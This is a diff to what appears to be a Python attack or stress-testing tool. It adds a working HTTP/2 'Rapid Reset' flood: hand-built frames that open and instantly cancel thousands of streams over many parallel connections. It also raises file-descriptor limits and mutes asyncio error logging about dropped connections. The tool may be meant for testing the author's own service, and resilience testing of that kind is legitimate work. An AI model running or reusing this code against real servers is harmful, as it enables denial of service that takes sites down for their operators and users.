@@ -9,6 +9,7 @@ import collections
 import contextlib
 import itertools
 import json
+import logging
 import os
 import resource
 import sys
@@ -217,6 +218,30 @@ async def connect(attack):
     await attack.many(32, knock)
 
 
+def frame(kind, flags, stream, payload=b""):
+    """A frame of HTTP/2 (RFC 9113 section 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+async def reset(attack):
+    """Opens streams of HTTP/2 and resets each at once."""
+    hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
+    # GET http /, all from the static table, and the authority.
+    head = bytes([0x82, 0x86, 0x84, 0x01, 7]) + b"id.test"
+
+    async def open_and_reset():
+        _, writer = await attack.connect()
+        writer.write(hello)
+        for stream in range(1, 20_001, 2):
+            writer.write(frame(1, 5, stream, head) + frame(3, 0, stream, bytes([0, 0, 0, 8])))
+            if stream % 20 == 1:
+                await writer.drain()
+                attack.seen["streams"] += 10
+        writer.close()
+
+    await attack.many(16, open_and_reset)
+
+
 async def ask_with(attack, token):
     reader, writer = await attack.connect()
     while attack.goes_on():
@@ -240,6 +265,8 @@ async def forged(attack):
 
 def main(name, host, port, token):
     os.nice(19)
+    # That the server closes connections is what is wanted, and nothing to write about.
+    logging.getLogger("asyncio").setLevel(logging.ERROR)
     most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     attack = Attack((host, int(port)), token)
